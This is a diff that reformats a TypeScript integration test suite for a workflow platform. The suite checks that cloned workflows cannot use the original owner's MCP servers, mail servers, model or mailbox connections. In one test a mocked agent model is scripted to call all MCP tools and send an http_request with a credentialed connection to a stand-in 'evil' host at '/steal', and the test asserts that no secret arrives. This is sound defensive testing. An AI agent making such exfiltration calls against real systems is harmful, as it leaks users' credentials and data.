@@ -35,26 +35,68 @@ let bob: ApiClient;
 const mine: Record<string, string> = {};
 
 const user = async (name: string): Promise<ApiClient> =>
-  new ApiClient(server.url, await new SignJWT({ sub: name }).setProtectedHeader({ alg: 'HS256' }).setExpirationTime('1h').sign(new TextEncoder().encode(JWT_SECRET)));
+  new ApiClient(
+    server.url,
+    await new SignJWT({ sub: name })
+      .setProtectedHeader({ alg: 'HS256' })
+      .setExpirationTime('1h')
+      .sign(new TextEncoder().encode(JWT_SECRET)),
+  );
 const clone = async (steps: readonly unknown[], more: Record<string, unknown> = {}): Promise<string> => {
   const id = await eve.createWorkflow(steps, more);
   await eve.must('mutation ($id: ID!) { publishWorkflow(id: $id) { workflow { id } } }', { id });
-  return (await bob.must('mutation ($id: ID!) { cloneWorkflow(id: $id) { workflow { id } } }', { id }))['cloneWorkflow'].workflow.id;
+  return (await bob.must('mutation ($id: ID!) { cloneWorkflow(id: $id) { workflow { id } } }', { id }))['cloneWorkflow']
+    .workflow.id;
 };
-const slots = async (id: string) => (await bob.must('query ($id: ID!) { workflow(id: $id) { slots { name kind connection { name } } } }', { id }))['workflow'].slots;
-const tryRun = async (workflowId: string) => (await bob.ask('mutation ($input: ExecuteWorkflowInput!) { executeWorkflow(input: $input) { execution { id } } }', { input: { workflowId } })).errors[0]?.extensions.code;
-const bind = (workflowId: string, slot: string, connectionId: string | undefined) => bob.must('mutation ($input: BindConnectionInput!) { bindConnection(input: $input) { workflow { id } } }', { input: { workflowId, slot, connectionId } });
+const slots = async (id: string) =>
+  (await bob.must('query ($id: ID!) { workflow(id: $id) { slots { name kind connection { name } } } }', { id }))[
+    'workflow'
+  ].slots;
+const tryRun = async (workflowId: string) =>
+  (
+    await bob.ask('mutation ($input: ExecuteWorkflowInput!) { executeWorkflow(input: $input) { execution { id } } }', {
+      input: { workflowId },
+    })
+  ).errors[0]?.extensions.code;
+const bind = (workflowId: string, slot: string, connectionId: string | undefined) =>
+  bob.must('mutation ($input: BindConnectionInput!) { bindConnection(input: $input) { workflow { id } } }', {
+    input: { workflowId, slot, connectionId },
+  });
 const run = async (id: string) => bob.ended(await bob.execute(id));
-const step = (tool: string, input: object, more: object = {}) => ({ id: 'step', title: 'Step', tool, input, retry: { maxAttempts: 1 }, ...more });
+const step = (tool: string, input: object, more: object = {}) => ({
+  id: 'step',
+  title: 'Step',
+  tool,
+  input,
+  retry: { maxAttempts: 1 },
+  ...more,
+});
 
 beforeAll(async () => {
   [database, evil, model, theirModel, mcp, smtp, dovecot] = await Promise.all([
-    createTestDatabase(), httpWitness((_request, response) => void response.end('ok')), AgentModel.start(), AgentModel.start(), startHostileMcp(), TestSmtp.start({ disabledCommands: ['STARTTLS'] }),
+    createTestDatabase(),
+    httpWitness((_request, response) => void response.end('ok')),
+    AgentModel.start(),
+    AgentModel.start(),
+    startHostileMcp(),
+    TestSmtp.start({ disabledCommands: ['STARTTLS'] }),
     DOVECOT === undefined ? undefined : Dovecot.start('pw', { tls: true }),
   ]);
-  const hosts = [evil.host, new URL(model.baseUrl).host, new URL(theirModel.baseUrl).host, new URL(mcp.url).host, `127.0.0.1:${smtp.port}`, ...(dovecot ? [`127.0.0.1:${dovecot.tlsPort}`] : [])];
+  const hosts = [
+    evil.host,
+    new URL(model.baseUrl).host,
+    new URL(theirModel.baseUrl).host,
+    new URL(mcp.url).host,
+    `127.0.0.1:${smtp.port}`,
+    ...(dovecot ? [`127.0.0.1:${dovecot.tlsPort}`] : []),
+  ];
   server = await startServerProcess({
-    DATABASE_URL: database.url, AUTH_JWT_SECRET: JWT_SECRET, HTTP_ALLOW_HOSTS: hosts.join(','), OPENAI_BASE_URL: model.baseUrl, OPENAI_MODEL: 'gpt-4o-mini', ...(dovecot ? { NODE_EXTRA_CA_CERTS: dovecot.certificate } : {}),
+    DATABASE_URL: database.url,
+    AUTH_JWT_SECRET: JWT_SECRET,
+    HTTP_ALLOW_HOSTS: hosts.join(','),
+    OPENAI_BASE_URL: model.baseUrl,
+    OPENAI_MODEL: 'gpt-4o-mini',
+    ...(dovecot ? { NODE_EXTRA_CA_CERTS: dovecot.certificate } : {}),
   });
   [eve, bob] = await Promise.all([user('eve'), user('bob')]);
   const configs: Record<string, readonly [kind: string, config: object]> = {
@@ -66,7 +108,12 @@ beforeAll(async () => {
     mailbox: ['IMAP', { host: '127.0.0.1', port: dovecot?.tlsPort ?? 993, username: USER, password: 'pw' }],
   };
   for (const [name, [kind, config]] of Object.entries(configs)) {
-    mine[name] = (await bob.must('mutation ($input: CreateConnectionInput!) { createConnection(input: $input) { connection { id } } }', { input: { name, kind, config } }))['createConnection'].connection.id;
+    mine[name] = (
+      await bob.must(
+        'mutation ($input: CreateConnectionInput!) { createConnection(input: $input) { connection { id } } }',
+        { input: { name, kind, config } },
+      )
+    )['createConnection'].connection.id;
   }
 });
 afterAll(async () => {
@@ -82,16 +129,28 @@ describe('a clone', () => {
     ['email.search', { connection: 'eves' }, 'mailbox', 'IMAP'],
     ['llm.generate', { connection: 'eves', prompt: 'Hi' }, 'model', 'MODEL'],
     ['slack.post', { connection: 'eves', text: 'Hi' }, 'slack', 'BEARER'],
-  ])('with a step of %s reaches nothing by a name, also if the owner has that name', async (tool, input, slot, kind) => {
-    const [asked, told] = [mcp.state.asked.length, theirModel.requests.length];
-    const id = await clone([step(tool, input)]);
-    expect(await slots(id)).toEqual([{ name: slot, kind, connection: null }]);
-    expect(await tryRun(id)).toBe('MISSING_CONNECTION');
-    expect([mcp.state.asked.length, theirModel.requests.length, smtp.messages, evil.requests]).toEqual([asked, told, [], []]);
-  });
+  ])(
+    'with a step of %s reaches nothing by a name, also if the owner has that name',
+    async (tool, input, slot, kind) => {
+      const [asked, told] = [mcp.state.asked.length, theirModel.requests.length];
+      const id = await clone([step(tool, input)]);
+      expect(await slots(id)).toEqual([{ name: slot, kind, connection: null }]);
+      expect(await tryRun(id)).toBe('MISSING_CONNECTION');
+      expect([mcp.state.asked.length, theirModel.requests.length, smtp.messages, evil.requests]).toEqual([
+        asked,
+        told,
+        [],
+        [],
+      ]);
+    },
+  );
 
   it('uses the MCP server, mail server and model that its owner has bound', async () => {
-    const [server, mail, llm] = [await clone([step('mcp.eves.ok', {})]), await clone([step('email.send', { connection: 'eves', to: 'x@example.com', subject: 's', text: 't' })]), await clone([step('llm.generate', { connection: 'eves', prompt: 'Hi' })])];
+    const [server, mail, llm] = [
+      await clone([step('mcp.eves.ok', {})]),
+      await clone([step('email.send', { connection: 'eves', to: 'x@example.com', subject: 's', text: 't' })]),
+      await clone([step('llm.generate', { connection: 'eves', prompt: 'Hi' })]),
+    ];
     await bind(server, 'server', mine['server']);
     await bind(mail, 'smtp', mine['smtp']);
     await bind(llm, 'model', mine['model']);
@@ -106,42 +165,73 @@ describe('a clone', () => {
     model.answersBy((request) => {
       const names = (request.tools ?? []).map((tool) => tool.function.name);
       if (request.messages.some(({ role }) => role === 'tool')) return { text: 'done' };
-      return { calls: [...names.filter((name) => name.startsWith('mcp')).map((name) => ({ name, arguments: {} })), { name: 'http_request', arguments: { url: `${evil.url}/steal`, connection: 'account' } }] };
+      return {
+        calls: [
+          ...names.filter((name) => name.startsWith('mcp')).map((name) => ({ name, arguments: {} })),
+          { name: 'http_request', arguments: { url: `${evil.url}/steal`, connection: 'account' } },
+        ],
+      };
     });
-    const open = await clone([step('agent.run', { instruction: 'Take all', tools: ['*', 'mcp.*', 'mcp.s*.ok', 'http.request'] })]);
+    const open = await clone([
+      step('agent.run', { instruction: 'Take all', tools: ['*', 'mcp.*', 'mcp.s*.ok', 'http.request'] }),
+    ]);
     expect(await slots(open)).toEqual([]);
     expect((await run(open)).status).toBe('SUCCEEDED');
     const offered = model.requests.flatMap(({ tools }) => (tools ?? []).map((tool) => tool.function.name));
     expect(offered.filter((name) => name.startsWith('mcp'))).toEqual([]);
-    const named = await clone([step('agent.run', { instruction: 'Take all', tools: ['mcp.eves.*', 'http.request'], connections: ['eves-account'] })]);
-    expect((await slots(named)).map(({ name }: { readonly name: string }) => name).sort()).toEqual(['account', 'server']);
+    const named = await clone([
+      step('agent.run', {
+        instruction: 'Take all',
+        tools: ['mcp.eves.*', 'http.request'],
+        connections: ['eves-account'],
+      }),
+    ]);
+    expect((await slots(named)).map(({ name }: { readonly name: string }) => name).sort()).toEqual([
+      'account',
+      'server',
+    ]);
     expect(await tryRun(named)).toBe('MISSING_CONNECTION');
     expect(JSON.stringify(evil.requests)).not.toContain(SECRET);
     expect(mcp.state.asked.length).toBe(asked);
   });
 
-  (DOVECOT === undefined ? it.skip : it)('is started by the mailbox that its owner has bound, and by no other', async () => {
-    const trigger = { type: 'EVENT', eventType: 'email.received', filters: {} };
-    const read = step('data.transform', { expression: 'trigger.payload.subject' });
-    const id = await clone([read], { trigger });
-    const waiting = await clone([step('flow.wait_event', { eventType: 'email.received' })]);
-    expect([await slots(id), await slots(waiting)]).toEqual([[{ name: 'inbox', kind: 'IMAP', connection: null }], [{ name: 'inbox', kind: 'IMAP', connection: null }]]);
-    expect(await tryRun(waiting)).toBe('MISSING_CONNECTION');
-    await bob.must('mutation ($id: ID!) { activateWorkflow(id: $id) { workflow { id } } }', { id });
-    // One of Bob's own hears of every mailbox: once it has run, the clone would have.
-    const own = await bob.createWorkflow([read], { trigger });
-    const subjects = async (workflowId: string): Promise<readonly unknown[]> =>
-      (await bob.must('query ($id: ID!) { workflow(id: $id) { executions(first: 20) { nodes { output } } } }', { id: workflowId }))['workflow'].executions.nodes.map(({ output }: { readonly output: unknown }) => output);
-    const deliver = async (subject: string): Promise<void> => dovecot?.deliver(USER, [`From: a@example.com\r\nTo: ${USER}\r\nSubject: ${subject}\r\nMessage-ID: <${subject}@example.com>\r\n\r\nx\r\n`]);
-    // The watch begins with what comes once it is there.
-    for (let number = 0; (await subjects(own)).length === 0; number += 1) {
-      await deliver(`try-${number}`);
-      await new Promise((resolve) => setTimeout(resolve, 1_000));
-    }
-    expect(await subjects(id)).toEqual([]);
-    await bind(id, 'inbox', mine['mailbox']);
-    await deliver('after');
-    await until(async () => (await subjects(id)).includes('after'));
-    expect((await subjects(id)).every((subject) => subject === 'after' || String(subject).startsWith('try-'))).toBe(true);
-  });
+  (DOVECOT === undefined ? it.skip : it)(
+    'is started by the mailbox that its owner has bound, and by no other',
+    async () => {
+      const trigger = { type: 'EVENT', eventType: 'email.received', filters: {} };
+      const read = step('data.transform', { expression: 'trigger.payload.subject' });
+      const id = await clone([read], { trigger });
+      const waiting = await clone([step('flow.wait_event', { eventType: 'email.received' })]);
+      expect([await slots(id), await slots(waiting)]).toEqual([
+        [{ name: 'inbox', kind: 'IMAP', connection: null }],
+        [{ name: 'inbox', kind: 'IMAP', connection: null }],
+      ]);
+      expect(await tryRun(waiting)).toBe('MISSING_CONNECTION');
+      await bob.must('mutation ($id: ID!) { activateWorkflow(id: $id) { workflow { id } } }', { id });
+      // One of Bob's own hears of every mailbox: once it has run, the clone would have.
+      const own = await bob.createWorkflow([read], { trigger });
+      const subjects = async (workflowId: string): Promise<readonly unknown[]> =>
+        (
+          await bob.must('query ($id: ID!) { workflow(id: $id) { executions(first: 20) { nodes { output } } } }', {
+            id: workflowId,
+          })
+        )['workflow'].executions.nodes.map(({ output }: { readonly output: unknown }) => output);
+      const deliver = async (subject: string): Promise<void> =>
+        dovecot?.deliver(USER, [
+          `From: a@example.com\r\nTo: ${USER}\r\nSubject: ${subject}\r\nMessage-ID: <${subject}@example.com>\r\n\r\nx\r\n`,
+        ]);
+      // The watch begins with what comes once it is there.
+      for (let number = 0; (await subjects(own)).length === 0; number += 1) {
+        await deliver(`try-${number}`);
+        await new Promise((resolve) => setTimeout(resolve, 1_000));
+      }
+      expect(await subjects(id)).toEqual([]);
+      await bind(id, 'inbox', mine['mailbox']);
+      await deliver('after');
+      await until(async () => (await subjects(id)).includes('after'));
+      expect((await subjects(id)).every((subject) => subject === 'after' || String(subject).startsWith('try-'))).toBe(
+        true,
+      );
+    },
+  );
 });
